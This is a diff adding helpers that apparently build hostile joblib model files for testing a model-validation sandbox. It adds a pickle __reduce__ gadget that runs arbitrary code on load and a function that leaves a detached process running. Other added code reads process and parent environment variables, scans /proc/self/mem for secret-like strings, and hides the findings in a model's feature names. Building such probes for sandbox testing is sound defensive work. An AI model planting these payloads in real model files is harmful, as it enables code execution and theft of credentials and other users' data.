@@ -11,6 +11,7 @@ that the code ran and what it could do.
 import io
 import json
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -84,4 +85,67 @@ def hostile_joblib(
 ) -> bytes:
     buffer = io.BytesIO()
     joblib.dump(HostileArtifact(str(report_path), bucket, endpoint, victim_keys, smuggle), buffer)
+    return buffer.getvalue()
+
+
+def linger(pid_path: str) -> Any:
+    """Start a process in a session of its own that would outlive the validation."""
+    import subprocess
+
+    process = subprocess.Popen(["sleep", "300"], start_new_session=True)
+    Path(pid_path).write_text(str(process.pid))
+    return LogisticRegression().fit([[0.0], [1.0]], [0, 1])
+
+
+def _found_after(prefix: bytes, length: int) -> set[str]:
+    """Every run of `length` hex digits after the prefix anywhere in this process's memory."""
+    pattern = re.compile(re.escape(prefix) + rb"([0-9a-f]{%d})" % length)
+    found = set()
+    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+        for line in maps:
+            span, permissions = line.split()[:2]
+            if not permissions.startswith("r") or "[vvar" in line or "[vsyscall" in line:
+                continue
+            start, end = (int(value, 16) for value in span.split("-"))
+            try:
+                memory.seek(start)
+                region = memory.read(end - start)
+            except (OSError, ValueError, OverflowError):
+                continue
+            found |= {match.decode() for match in pattern.findall(region)}
+    return found
+
+
+def look_around(marker_prefix: str) -> Any:
+    """A model whose feature names tell what the process saw: environments, and what follows
+    the marker's prefix in its memory (another registration's bytes would show there)."""
+    seen = []
+    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
+        try:
+            seen += [item.decode(errors="replace") for item in Path(path).read_bytes().split(b"\0")]
+        except OSError as exc:
+            seen.append(f"{path}: {type(exc).__name__}")
+    seen += [f"found: {suffix}" for suffix in sorted(_found_after(marker_prefix.encode(), 24))]
+    seen.append("memory searched")
+    names = list(dict.fromkeys(value[:200] for value in seen if value))
+    rows = numpy.random.default_rng(0).normal(size=(8, len(names)))
+    model = LogisticRegression().fit(rows, [0, 1] * 4)
+    model.feature_names_in_ = numpy.array(names, dtype=object)
+    return model
+
+
+class Calls:
+    """Unpickling calls function(*args): a joblib file whose loading runs our code."""
+
+    def __init__(self, function: Any, *args: Any) -> None:
+        self.function = function
+        self.args = args
+
+    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
+        return (self.function, self.args)
+
+
+def joblib_calling(function: Any, *args: Any) -> bytes:
+    buffer = io.BytesIO()
+    joblib.dump(Calls(function, *args), buffer)
     return buffer.getvalue()
